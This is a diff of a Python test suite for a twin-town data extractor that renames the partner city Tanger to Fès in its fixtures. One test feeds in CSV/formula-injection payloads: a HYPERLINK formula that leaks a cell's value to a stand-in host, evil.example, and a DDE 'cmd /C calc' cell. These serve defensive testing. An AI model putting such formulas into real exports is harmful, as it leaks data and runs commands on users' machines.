@@ -30,7 +30,7 @@ REALWORLD = Path(__file__).resolve().parents[2] / "shared" / "realworld-html"
 GOOD = "gent_twin-towns_en.html"
 GOOD_URL = "https://stad.gent/en/international/twin-towns-and-sister-cities"
 TIME_LIMIT = 20.0
-FR = "<p>La commune d'Ath est jumelée avec la ville de Tanger (Maroc) depuis 1998.</p>"
+FR = "<p>La commune d'Ath est jumelée avec la ville de Fès (Maroc) depuis 1998.</p>"
 
 
 def html(body: str) -> str:
@@ -90,7 +90,7 @@ def error_of(errors: list[dict[str, str]], source: str) -> dict[str, str]:
 
 
 def tanger(rows: dict[str, dict[str, str]]) -> dict[str, str]:
-    found = [r for r in rows.values() if r["partner"] == "Tanger"]
+    found = [r for r in rows.values() if r["partner"] == "Fès"]
     assert found, sorted(r["partner"] for r in rows.values())
     assert found[0]["country_code"] == "MA"
     return found[0]
@@ -137,7 +137,7 @@ def test_invalid_utf8(tmp_path: Path, good_rows: dict[str, dict[str, str]]) -> N
 
 
 def test_utf16_with_bom(tmp_path: Path, good_rows: dict[str, dict[str, str]]) -> None:
-    text = html("<p>Onze gemeente is verbroederd met de stad Tanger (Marokko) sinds 1998.</p>")
+    text = html("<p>Onze gemeente is verbroederd met de stad Fès (Marokko) sinds 1998.</p>")
     code, rows, _ = run_case(tmp_path, {"utf16.html": "\ufeff".encode("utf-16-le") + text.encode("utf-16-le")},
                              good_rows, urls={"utf16.html": "https://www.ath.be/nl"})
     assert code == EXIT_OK
@@ -145,7 +145,7 @@ def test_utf16_with_bom(tmp_path: Path, good_rows: dict[str, dict[str, str]]) ->
 
 
 def test_windows_1252_text_file(tmp_path: Path, good_rows: dict[str, dict[str, str]]) -> None:
-    text = "Relations internationales\n\nLa commune d’Ath est jumelée avec la ville de Tanger (Maroc) depuis 1998 – « œuvre » commune.\n"
+    text = "Relations internationales\n\nLa commune d’Ath est jumelée avec la ville de Fès (Maroc) depuis 1998 – « œuvre » commune.\n"
     code, rows, _ = run_case(tmp_path, {"cp1252.txt": text.encode("cp1252")}, good_rows,
                              urls={"cp1252.txt": "https://www.ath.be/t"})
     assert code == EXIT_OK
@@ -154,7 +154,7 @@ def test_windows_1252_text_file(tmp_path: Path, good_rows: dict[str, dict[str, s
 
 def test_formula_cells_are_neutralised(tmp_path: Path, good_rows: dict[str, dict[str, str]]) -> None:
     table = ("<h2>Jumelages</h2><table><tr><th>Ville</th><th>Pays</th><th>Depuis</th></tr>"
-             '<tr><td>=HYPERLINK("http://evil.example/?leak="&A1,"Tanger")</td><td>Maroc</td><td>1998</td></tr>'
+             '<tr><td>=HYPERLINK("http://evil.example/?leak="&A1,"Fès")</td><td>Maroc</td><td>1998</td></tr>'
              "<tr><td>+cmd|' /C calc'!A0</td><td>@SUM(1+1)</td><td>-2+3</td></tr></table>"
              "<p>La commune est jumelée avec =HYPERLINK(\"http://evil.example\",\"Douai\") (France).</p>")
     files = {"formula.html": html(table).encode(), "empty_formula.html": b""}
